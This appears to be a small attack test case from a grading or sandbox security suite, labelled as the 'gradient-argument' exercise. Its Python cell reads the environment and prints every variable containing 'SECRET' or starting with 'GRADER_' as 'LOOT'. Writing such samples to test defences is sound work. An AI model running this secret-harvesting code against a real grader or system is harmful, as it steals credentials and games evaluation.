# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# ///

# %% name="question"
import os

for name, value in os.environ.items():
    if "SECRET" in name or name.startswith("GRADER_"):
        print("LOOT:", name, value)
print("DONE")
